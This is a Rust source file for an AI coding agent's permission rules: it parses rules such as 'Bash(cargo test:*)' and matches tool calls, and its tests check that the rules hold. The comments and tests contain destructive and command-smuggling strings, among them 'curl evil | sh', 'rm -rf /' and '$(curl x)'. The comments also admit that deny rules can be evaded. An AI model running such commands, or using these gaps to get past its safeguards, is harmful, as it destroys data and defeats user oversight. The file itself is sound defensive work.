//! Permission rules such as `Bash(cargo test:*)`, `Bash(ls)`, `Write(src/**)`, `Edit(*.md)` or
//! a bare tool name, and how each matches a tool call.
//!
//! Bash rules compare whitespace-normalized command text. `Bash(p:*)` matches `p` itself or `p`
//! followed by a space and anything; `Bash(c)` matches exactly `c`. Because a prefix says
//! nothing about what follows, an *allow* rule only matches a simple command (no `;`, `&&`,
//! `|`, backticks, `$(`, redirections to files…): `Bash(cargo test:*)` must not approve
//! `cargo test && curl evil | sh`. A *deny* rule is generous instead: it matches if its command
//! starts at any word of any segment of a compound command, quotes ignored, so `Bash(rm:*)`
//! also refuses `ls | xargs rm`, `sudo rm -rf x` and `bash -c "rm x"` (and, harmlessly,
//! `echo rm`). Still best effort — a shell can hide a command in many ways: deny rules narrow
//! what the model does by accident, they do not sandbox it.
//!
//! MCP tools are named `mcp__SERVER__TOOL`; `mcp__SERVER` alone, or `mcp__SERVER__*`, matches
//! every tool of that server (a `*` may only end an `mcp__` name).
//!
//! Path rules (Read, Write, Edit, Glob, Grep) match the workspace-relative path of the resolved
//! target with gitignore-like globs (see `pattern.rs`).

use std::fmt;
use std::str::FromStr;

use forkd_core::tools::{MCP_PREFIX, names_tool};

use crate::pattern::PathPattern;

/// The tools whose rules take a path glob.
const PATH_TOOLS: [&str; 5] = ["Read", "Write", "Edit", "Glob", "Grep"];

/// One parsed rule.
#[derive(Debug, Clone)]
pub struct Rule {
    tool: String,
    spec: Spec,
    /// The rule as written, for messages.
    text: String,
}

#[derive(Debug, Clone)]
enum Spec {
    /// A bare tool name: every call of the tool.
    Any,
    Exact(String),
    Prefix(String),
    Path(PathPattern),
}

/// Why a rule did not parse.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RuleError {
    #[error("permission rule is empty")]
    Empty,
    #[error("permission rule `{0}`: the tool name must be letters, digits, `_` or `-`")]
    BadToolName(String),
    #[error("permission rule `{0}`: missing the closing `)`")]
    Unclosed(String),
    #[error("permission rule `{0}`: the specifier in parentheses is empty")]
    EmptySpecifier(String),
    #[error("permission rule `{rule}`: {tool} rules take no specifier; write `{tool}` alone")]
    NoSpecifier { rule: String, tool: String },
    #[error("permission rule `{0}`: `:*` may only end a Bash specifier")]
    MisplacedWildcard(String),
    #[error("permission rule `{rule}`: invalid glob: {message}")]
    BadGlob { rule: String, message: String },
}

/// What a tool call offers rules to match against.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Subject {
    /// Bash's command, whitespace-normalized.
    Command(String),
    /// A path tool's target relative to the workspace, or why it does not resolve.
    Path(Result<String, String>),
    /// Nothing a specifier could match (an unknown tool, or the field is missing).
    Nothing,
}

/// Allow rules match conservatively, deny rules generously (see the module comment).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Purpose {
    Allow,
    Deny,
}

impl Rule {
    /// Parses `Tool` or `Tool(specifier)`.
    pub fn parse(text: &str) -> Result<Rule, RuleError> {
        let text = text.trim();
        if text.is_empty() {
            return Err(RuleError::Empty);
        }
        let (tool, spec) = match text.split_once('(') {
            None => (text, None),
            Some((tool, rest)) => {
                let inner = rest
                    .strip_suffix(')')
                    .ok_or_else(|| RuleError::Unclosed(text.to_owned()))?;
                (tool.trim(), Some(inner.trim()))
            }
        };
        let name = match tool.strip_suffix('*') {
            Some(prefix) if tool.starts_with(MCP_PREFIX) && spec.is_none() => prefix,
            _ => tool,
        };
        let valid_name = !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
        if !valid_name {
            return Err(RuleError::BadToolName(text.to_owned()));
        }
        let spec = match spec {
            None => Spec::Any,
            Some("") => return Err(RuleError::EmptySpecifier(text.to_owned())),
            Some(spec) => parse_spec(text, tool, spec)?,
        };
        Ok(Rule {
            tool: tool.to_owned(),
            spec,
            text: text.to_owned(),
        })
    }

    /// The tool the rule is about.
    pub fn tool(&self) -> &str {
        &self.tool
    }

    pub(crate) fn matches(&self, tool: &str, subject: &Subject, purpose: Purpose) -> bool {
        if !self.names(tool) {
            return false;
        }
        match (&self.spec, subject) {
            (Spec::Any, _) => true,
            (Spec::Path(pattern), Subject::Path(Ok(rel))) => {
                pattern.is_match(std::path::Path::new(rel))
            }
            (Spec::Exact(_) | Spec::Prefix(_), Subject::Command(command)) => match purpose {
                Purpose::Allow => is_simple(command) && self.command_matches(command),
                Purpose::Deny => segments(command)
                    .any(|s| word_starts(&s).any(|start| self.command_matches(&s[start..]))),
            },
            _ => false,
        }
    }

    /// Whether the rule is about `tool`: its name, or (for MCP) its server's tools.
    fn names(&self, tool: &str) -> bool {
        names_tool(&self.tool, tool)
    }

    fn command_matches(&self, command: &str) -> bool {
        match &self.spec {
            Spec::Exact(exact) => command == exact,
            Spec::Prefix(prefix) => command
                .strip_prefix(prefix.as_str())
                .is_some_and(|rest| rest.is_empty() || rest.starts_with(' ')),
            _ => false,
        }
    }
}

fn parse_spec(text: &str, tool: &str, spec: &str) -> Result<Spec, RuleError> {
    if tool == "Bash" {
        let (body, prefix) = match spec.strip_suffix(":*") {
            Some(body) => (body, true),
            None => (spec, false),
        };
        if body.contains(":*") {
            return Err(RuleError::MisplacedWildcard(text.to_owned()));
        }
        let body = normalize(body);
        if body.is_empty() {
            return Err(RuleError::EmptySpecifier(text.to_owned()));
        }
        return Ok(if prefix {
            Spec::Prefix(body)
        } else {
            Spec::Exact(body)
        });
    }
    if PATH_TOOLS.contains(&tool) {
        return PathPattern::new(spec)
            .map(Spec::Path)
            .map_err(|e| RuleError::BadGlob {
                rule: text.to_owned(),
                message: e.kind().to_string(),
            });
    }
    Err(RuleError::NoSpecifier {
        rule: text.to_owned(),
        tool: tool.to_owned(),
    })
}

impl FromStr for Rule {
    type Err = RuleError;

    fn from_str(s: &str) -> Result<Rule, RuleError> {
        Rule::parse(s)
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

/// Collapses runs of whitespace, so `cargo  test` cannot slip past a `cargo test` rule.
pub(crate) fn normalize(command: &str) -> String {
    command.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// True when the command is one plain command. Redirections between stdout and stderr are
/// harmless and common (`cargo test 2>&1`), so they do not count.
fn is_simple(command: &str) -> bool {
    let stripped = command
        .replace("2>&1", "")
        .replace("1>&2", "")
        .replace(">&2", "");
    !stripped.contains([';', '&', '|', '`', '\n', '>', '<', '(', ')', '{', '}'])
        && !stripped.contains("$(")
}

/// The commands a compound command is made of, split at shell operators and grouping, with
/// quotes dropped so a quoted command (`bash -c "rm x"`) is seen too.
fn segments(command: &str) -> impl Iterator<Item = String> + '_ {
    command
        .split([';', '&', '|', '\n', '`', '(', ')', '{', '}'])
        .map(|s| normalize(&s.replace(['"', '\'', '$'], " ")))
        .filter(|s| !s.is_empty())
}

/// Byte offsets where the words of a normalized command start.
fn word_starts(command: &str) -> impl Iterator<Item = usize> + '_ {
    std::iter::once(0).chain(command.match_indices(' ').map(|(i, _)| i + 1))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {

    #[test]
    fn mcp_rules_name_a_tool_or_a_whole_server() {
        let tool = |rule: &str, name: &str| {
            Rule::parse(rule)
                .unwrap()
                .matches(name, &Subject::Nothing, Purpose::Deny)
        };
        assert!(tool("mcp__github__*", "mcp__github__create_issue"));
        assert!(tool("mcp__github", "mcp__github__create_issue"));
        assert!(tool(
            "mcp__github__create_issue",
            "mcp__github__create_issue"
        ));
        assert!(!tool("mcp__github", "mcp__githubx__create_issue"));
        assert!(!tool(
            "mcp__github__create_issue",
            "mcp__github__create_issues"
        ));
        assert!(!tool("mcp__git*", "Bash"));
        assert!(Rule::parse("Bash*").is_err());
        assert!(Rule::parse("mcp__x__*(arg)").is_err());
    }
    use super::*;

    fn bash(command: &str) -> Subject {
        Subject::Command(normalize(command))
    }

    #[test]
    fn parse_errors_are_specific() {
        let cases = [
            ("", RuleError::Empty),
            ("Bash(ls", RuleError::Unclosed("Bash(ls".into())),
            ("Bash()", RuleError::EmptySpecifier("Bash()".into())),
            ("Bash(:*)", RuleError::EmptySpecifier("Bash(:*)".into())),
            ("Ba sh", RuleError::BadToolName("Ba sh".into())),
            ("(ls)", RuleError::BadToolName("(ls)".into())),
            (
                "Bash(a:*b:*)",
                RuleError::MisplacedWildcard("Bash(a:*b:*)".into()),
            ),
        ];
        for (text, expected) in cases {
            assert_eq!(Rule::parse(text).unwrap_err(), expected, "{text}");
        }
        let no_spec = Rule::parse("Agent(x)").unwrap_err().to_string();
        assert!(
            no_spec.contains("Agent rules take no specifier"),
            "{no_spec}"
        );
        let glob = Rule::parse("Write(src/[)").unwrap_err().to_string();
        assert!(glob.contains("invalid glob"), "{glob}");
    }

    #[test]
    fn bash_prefix_and_exact() {
        let prefix = Rule::parse("Bash(cargo test:*)").unwrap();
        let exact = Rule::parse("Bash(ls)").unwrap();
        let allow = |rule: &Rule, cmd: &str| rule.matches("Bash", &bash(cmd), Purpose::Allow);
        assert!(allow(&prefix, "cargo test"));
        assert!(allow(&prefix, "cargo  test --workspace 2>&1"));
        assert!(!allow(&prefix, "cargo testify"));
        assert!(!allow(&prefix, "cargo test && rm -rf /"));
        assert!(!allow(&prefix, "cargo test > /etc/x"));
        assert!(!allow(&prefix, "cargo test $(curl x)"));
        assert!(allow(&exact, "ls"));
        assert!(!allow(&exact, "ls -la"));
        assert!(!prefix.matches("Write", &bash("cargo test"), Purpose::Allow));
    }

    #[test]
    fn deny_rules_see_through_compound_commands() {
        let rm = Rule::parse("Bash(rm:*)").unwrap();
        let deny = |cmd: &str| rm.matches("Bash", &bash(cmd), Purpose::Deny);
        assert!(deny("rm -rf target"));
        assert!(deny("echo hi && rm -rf /"));
        assert!(deny("ls | xargs rm"));
        assert!(!deny("ls | xargs"));
        assert!(deny("echo $(rm x)"));
        assert!(deny("(cd /; rm -rf x)"));
        assert!(deny("sudo rm -rf /"));
        assert!(deny("bash -c \"rm -rf /\""));
        assert!(!deny("rmdir x"));
        assert!(!deny("cargo build"));
    }

    #[test]
    fn path_rules_match_relative_paths() {
        let rule = Rule::parse("Write(src/**)").unwrap();
        let path = |p: &str| Subject::Path(Ok(p.to_owned()));
        assert!(rule.matches("Write", &path("src/a/b.rs"), Purpose::Allow));
        assert!(!rule.matches("Write", &path("docs/a.md"), Purpose::Allow));
        assert!(!rule.matches(
            "Write",
            &Subject::Path(Err("outside".into())),
            Purpose::Allow
        ));
        let md = Rule::parse("Edit(*.md)").unwrap();
        assert!(md.matches("Edit", &path("docs/guide.md"), Purpose::Allow));
        assert_eq!(md.to_string(), "Edit(*.md)");
        assert_eq!(md.tool(), "Edit");
    }
}
